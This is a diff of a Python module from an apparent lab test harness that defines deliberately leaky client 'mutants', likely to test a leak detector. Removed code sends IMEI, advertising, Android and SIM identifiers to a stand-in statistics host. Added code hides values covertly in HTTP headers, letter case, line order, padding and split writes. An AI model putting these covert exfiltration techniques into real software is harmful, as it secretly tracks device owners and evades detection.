@@ -1,194 +1,236 @@
-"""Third parties that receive data, and addresses that are one owner's own (L22, L23)."""
+"""Where a value leaves in requests: in their bytes, in several writes, in what is asked for."""
 
-import json
+import re
 from collections.abc import Sequence
-from hashlib import sha256
 from typing import Final
-from urllib.parse import quote
 
-from client_sim.lab.mutants.beneath import act_beneath, alter_beneath
-from client_sim.lab.mutants.mutant import Mutant
-from client_sim.lab.mutants.spy import Spy
-from client_sim.lab.mutants.telling import (
-    Snoop,
-    tell_at_event,
-    tell_before_poll,
-    tell_behind_paths,
-    tell_by_paths,
-    tell_in_bytes,
+from client_sim.lab.mutants.rows import InBytes, InPaths
+from client_sim.lab.mutants.telling import add_body, add_line
+
+_ROOT: Final = b".root.json"
+
+
+def is_set(told: bytes) -> bool:
+    """Whether a value is more than nothing and zero."""
+    return told not in {b"", b"0"}
+
+
+# In the bytes of each request.
+
+
+def header(name: str, form: str = "{}") -> InBytes:
+    """Add a header line, if there is something to say."""
+
+    def put(told: bytes, data: bytes) -> bytes:
+        return add_line(data, f"{name}: {form.format(told.decode())}") if told else data
+
+    return InBytes(f"in the header {name}", put)
+
+
+def cookie(name: str) -> InBytes:
+    """Add a cookie."""
+    return InBytes(
+        "in a cookie", lambda told, data: add_line(data, f"Cookie: {name}={told.decode()}")
+    )
+
+
+def behind_path(begin: str, says: str = "behind the path") -> InBytes:
+    """Add something to the end of each path."""
+    return InBytes(
+        says, lambda told, data: data.replace(b" HTTP/", begin.encode() + told + b" HTTP/", 1)
+    )
+
+
+def query(name: str) -> InBytes:
+    """Add a query to each path."""
+    return behind_path(f"?{name}=", "in the query")
+
+
+def in_path_of(what: bytes, begin: str) -> InBytes:
+    """Ask for something else in place of one thing."""
+    return InBytes("in a path", lambda told, data: data.replace(what, begin.encode() + told, 1))
+
+
+BEFORE_PATH: Final = InBytes(
+    "as the first part of the path", lambda told, data: data.replace(b" /", b" /%s/" % told, 1)
 )
-from client_sim.world import Event, Stream, World
-
-_STATISTICS: Final = "stats.example.org"
-
-
-def _digest(text: str) -> str:
-    return sha256(text.encode()).hexdigest()[:16]
-
-
-def _report_call(client: Snoop, event: Event) -> None:
-    number = quote(dict(event.details).get("number", ""))
-    client.post(_STATISTICS, f"/call?from={number}", b"")
-
-
-def _report_usage(client: Snoop) -> None:
-    owner = client.spy.owner
-    report = {"apps": len(owner.apps), "up": owner.uptime_seconds, "bat": owner.battery_percent}
-    client.post(_STATISTICS, "/usage", json.dumps(report).encode())
+AS_USER: Final = InBytes(
+    "as the user of an absolute target",
+    lambda told, data: data.replace(b" /", b" http://%s@server/" % told, 1),
+)
+BODY: Final = InBytes("as a body", lambda told, data: add_body(data, told))
+HEADER_NAME: Final = InBytes(
+    "as the name of a header",
+    lambda told, data: add_line(data, f"X-{told.decode().rstrip('=')}: 1"),
+)
+HOST_LINE: Final = InBytes(
+    "below the host in its header",
+    lambda told, data: data.replace(b"\r\nHost: ", b"\r\nHost: %s." % told),
+)
 
 
-def _report_nothing(client: Snoop) -> None:
-    client.post(_STATISTICS, "/alive", b"1")
+def _halves(told: bytes, data: bytes) -> bytes:
+    half = len(told) // 2
+    return add_line(data, f"X-A: {told[:half].decode()}\r\nX-B: {told[half:].decode()}")
 
 
-def _knock(client: Snoop) -> None:
-    """Connect and say nothing: that it happened is the bit."""
-    if client.spy.bit:
-        client.world.connect(client.world.resolve(_STATISTICS)[0], 443, _STATISTICS).close()
+def _over_requests(told: bytes, data: bytes) -> bytes:
+    half = -(-len(told) // 2)
+    piece = told[:half] if _ROOT in data else told[half:]
+    return data.replace(b" HTTP/", b"?%s HTTP/" % piece, 1)
 
 
-def _skip_names(client: Snoop) -> None:
-    stream = client.world.connect("203.0.113.9", 80, None)
-    stream.send(f"{client.spy.owner.imei}\n".encode())
-    stream.close()
+HALVES: Final = InBytes("in halves in two headers", _halves)
+OVER_REQUESTS: Final = InBytes("in the queries of two requests", _over_requests)
+ROOT_VERSION: Final = InBytes(
+    "as the version of a root",
+    lambda told, data: re.sub(rb"/[0-9]+\.root", b"/%d.root" % (2 + int(told)), data, count=1),
+)
 
 
-class _Pixel(Snoop):
-    def hang_up(self, stream: Stream) -> None:
-        super().hang_up(stream)
-        user = _digest(self.spy.owner.advertising_id)
-        stream = self.world.connect(self.world.resolve(_STATISTICS)[0], 80, None)
-        stream.send(f"GET /p.gif?u={user} HTTP/1.1\r\nHost: {_STATISTICS}\r\n\r\n".encode())
-        stream.close()
+def rewritten(old: bytes, new: bytes, says: str) -> InBytes:
+    """Replace something once where the value is set."""
+    return InBytes(says, lambda told, data: data.replace(old, new, 1) if is_set(told) else data)
 
 
-def _report_beneath(world: World) -> None:
-    stream = world.connect(world.resolve(_STATISTICS)[0], 443, _STATISTICS)
-    stream.send(b"PUT /m/%s HTTP/1.1\r\n\r\n" % _digest(Spy(world).owner.android_id).encode())
-    stream.close()
-
-
-def _own_catalogue(spy: Spy, paths: Sequence[str]) -> Sequence[str]:
-    return (*paths[:-1], f"/v1/catalog/{quote(spy.owner.serial)}")
-
-
-def _own_file(spy: Spy, paths: Sequence[str]) -> Sequence[str]:
-    return (*paths[:-1], f"/metadata/timestamp-{_digest(spy.owner.imei)}.json")
-
-
-def _one_more(spy: Spy, paths: Sequence[str]) -> Sequence[str]:
-    return (*paths, f"/content/offers/{_digest(spy.owner.gsf_id)}.json")
-
-
-def _detour(spy: Spy, data: bytes) -> bytes:
-    """Lead the path of a root through its own folder, as often as a digest says.
-
-    There is no such root in either place, so nothing else changes.
-    """
-    if b".root.json" not in data:
+def _reverse(told: bytes, data: bytes) -> bytes:
+    if not is_set(told):
         return data
-    steps = int(_digest(spy.owner.iccid), 16) % 4
-    return data.replace(b"/metadata/", b"/metadata/" + b"./" * steps, 1)
+    line, *lines = data.removesuffix(b"\r\n\r\n").split(b"\r\n")
+    return b"\r\n".join((line, *lines[::-1], b"", b""))
 
 
-def _fetch_own_catalogue(world: World) -> None:
-    public = world.public
-    name = public.host if public.tls else None
-    stream = world.connect(world.resolve(public.host)[0], public.port, name)
-    path = f"/v1/catalog/{_digest(Spy(world).owner.gsf_id)}"
-    stream.send(f"GET {path} HTTP/1.1\r\nHost: {public.host}\r\n\r\n".encode())
-    stream.close()
+def _spell_host(told: bytes, data: bytes) -> bytes:
+    begin, host, end = re.split(rb"(?<=\r\nHost: )([^\r]*)", data, maxsplit=1)
+    bits = int.from_bytes(told[-4:].ljust(4, b"0"))
+    letters = host.decode()
+    spelt = "".join(
+        letter.upper() if bits >> place & 1 else letter for place, letter in enumerate(letters)
+    )
+    return begin + spelt.encode() + end
 
 
-MUTANTS: Final = (
-    Mutant(
-        "call-reporter",
-        "L22",
-        "Tells a statistics host who calls, when they call.",
-        tell_at_event("call-received", _report_call),
-    ),
-    Mutant(
-        "usage-report",
-        "L22",
-        "Tells a statistics host uptime and battery before each poll.",
-        tell_before_poll(_report_usage),
-    ),
-    Mutant(
-        "alive-report",
-        "L22",
-        "Tells a statistics host that it is there: the same bytes for all, and one host too many.",
-        tell_before_poll(_report_nothing),
-    ),
-    Mutant(
-        "knock",
-        "L22",
-        "One bit of the IMEI as a connection to a statistics host on which nothing is said.",
-        tell_before_poll(_knock),
-    ),
-    Mutant(
-        "address-without-name",
-        "L22",
-        "The IMEI to an address that is written in the program, so that no name is asked for.",
-        tell_before_poll(_skip_names),
-    ),
-    Mutant(
-        "pixel-after-poll",
-        "L22",
-        "Fetches a picture behind each poll, with a digest of the advertising id.",
-        _Pixel,
-    ),
-    Mutant(
-        "report-beneath",
-        "L22",
-        "The transport of the real client puts a digest of the Android id to a statistics host.",
-        act_beneath(_report_beneath),
-    ),
-    Mutant(
-        "catalogue-of-serial",
-        "L23",
-        "Asks for a catalogue that is named by the serial number.",
-        tell_by_paths(_own_catalogue),
-    ),
-    Mutant(
-        "timestamp-of-imei",
-        "L23",
-        "Asks for a timestamp whose name ends in a digest of the IMEI.",
-        tell_by_paths(_own_file),
-    ),
-    Mutant(
-        "path-suffix",
-        "L23",
-        "A digest of the Bluetooth MAC as one more part of each path.",
-        tell_behind_paths(lambda spy: f"/{_digest(spy.owner.bluetooth_mac)}"),
-    ),
-    Mutant(
-        "session-parameter",
-        "L23",
-        "A digest of the ICCID behind a semicolon, where servers once kept their sessions.",
-        tell_behind_paths(lambda spy: f";s={_digest(spy.owner.iccid)}"),
-    ),
-    Mutant(
-        "own-offers",
-        "L23",
-        "Asks for one thing more: offers that are named by a digest of the GSF id.",
-        tell_by_paths(_one_more),
-    ),
-    Mutant(
-        "path-detour",
-        "L23",
-        "Two bits of a digest of the ICCID as steps on the spot in the path of the next root.",
-        tell_in_bytes(_detour),
-    ),
-    Mutant(
-        "catalogue-beneath",
-        "L23",
-        "The transport of the real client fetches a catalogue that is named by the GSF id.",
-        act_beneath(_fetch_own_catalogue),
-    ),
-    Mutant(
-        "path-detour-beneath",
-        "L23",
-        "The transport of the real client takes steps on the spot in a root's path, by the ICCID.",
-        alter_beneath(_detour),
-    ),
+LINE_ORDER: Final = InBytes("as the order of the lines", _reverse)
+HOST_CASE: Final = InBytes("as the case of the host's letters", _spell_host)
+PADDING: Final = InBytes(
+    "as the length of a header", lambda told, data: add_line(data, f"X-Pad: {'.' * int(told)}")
 )
+SPACES: Final = InBytes(
+    "as the number of spaces",
+    lambda told, data: data.replace(b": ", b":" + b" " * (1 + int(told or b"0"))),
+)
+EMPTY_LINES: Final = InBytes(
+    "as empty lines before the request", lambda told, data: b"\r\n" * int(told) + data
+)
+OPTIONS: Final = InBytes(
+    "as a question for options",
+    lambda told, data: (re.sub(rb"^GET \S+", b"OPTIONS *", data) if is_set(told) else b"") + data,
+)
+
+
+def _drop_line(told: bytes, data: bytes) -> bytes:
+    for place, name in enumerate(("X-A", "X-B", "X-C")):
+        data = data if place == int(told) else add_line(data, f"{name}: 1")
+    return data
+
+
+MISSING_LINE: Final = InBytes("as which of three lines is missing", _drop_line)
+
+
+def _balanced_lines(told: bytes, data: bytes) -> bytes:
+    size = int(told) % 64
+    return add_line(add_line(data, f"X-A: {'.' * size}"), f"X-B: {'.' * (64 - size)}")
+
+
+BALANCED: Final = InBytes("as the lengths of two headers of constant sum", _balanced_lines)
+
+
+BEFORE_REQUEST: Final = InBytes("before the request", lambda told, data: told + data)
+HINT: Final = InBytes(
+    "as a header that it names",
+    lambda told, data: add_line(data, f"{told.decode('latin-1')}: 1") if told else data,
+)
+WHICH_REQUEST: Final = InBytes(
+    "as which request is marked",
+    lambda told, data: add_line(data, "X-Count: 1") if (_ROOT in data) == is_set(told) else data,
+)
+
+
+def _crash(told: bytes, data: bytes) -> bytes:
+    if is_set(told):
+        raise ValueError("odd")
+    return data
+
+
+CRASH: Final = InBytes("as a crash", _crash)
+
+
+def only_in(pattern: bytes, place: InBytes, says: str) -> InBytes:
+    """Leak in requests alone in which a pattern is found."""
+    wanted = re.compile(pattern)
+
+    def put(told: bytes, data: bytes) -> bytes | Sequence[bytes]:
+        return place.put(told, data) if wanted.search(data) else data
+
+    return InBytes(f"{place.says} for {says}", put)
+
+
+# In several writes.
+
+
+def _cut(told: bytes, data: bytes) -> Sequence[bytes]:
+    size = 1 + int(told) % 40
+    return data[:size], data[size:]
+
+
+def _cut_twice(told: bytes, data: bytes) -> Sequence[bytes]:
+    size = 1 + int(told)
+    return data[:size], data[size : size - 12], data[size - 12 :]
+
+
+CUT: Final = InBytes("as the place where a request is cut in two", _cut)
+CUT_TWICE: Final = InBytes("as the place where a request is cut in three", _cut_twice)
+IN_TWO: Final = InBytes(
+    "as a request in two writes",
+    lambda told, data: (data[:16], data[16:]) if is_set(told) else data,
+)
+LINES: Final = InBytes(
+    "as a request line by line",
+    lambda told, data: data.splitlines(keepends=True) if is_set(told) else data,
+)
+
+
+# In what a poll asks for.
+
+REQUEST_ORDER: Final = InPaths(
+    "as the order of requests", lambda told, paths: paths[::-1] if is_set(told) else paths
+)
+WITHOUT_ROOT: Final = InPaths(
+    "as a missing request for root", lambda told, paths: paths[1:] if is_set(told) else paths
+)
+WITHOUT_TIMESTAMP: Final = InPaths(
+    "as a missing request", lambda told, paths: paths[:1] if is_set(told) else paths
+)
+NO_REQUESTS: Final = InPaths(
+    "as a connection without requests", lambda told, paths: () if is_set(told) else paths
+)
+AGAIN: Final = InPaths(
+    "as more requests for the timestamp", lambda told, paths: (*paths, *(paths[-1],) * int(told))
+)
+ROOT_AGAIN: Final = InPaths(
+    "as more requests for root", lambda told, paths: (*(paths[0],) * int(told), *paths)
+)
+OF_FOUR: Final = InPaths(
+    "as how many of four requests are for root",
+    lambda told, paths: tuple(paths[0 if place <= int(told) else 1] for place in range(4)),
+)
+
+
+def path_first(begin: str) -> InPaths:
+    """Ask for something more before everything else."""
+    return InPaths("in a path", lambda told, paths: (f"{begin}{told.decode()}", *paths))
+
+
+def path_last(begin: str) -> InPaths:
+    """Ask for something more behind everything else."""
+    return InPaths("in a path", lambda told, paths: (*paths, f"{begin}{told.decode()}"))
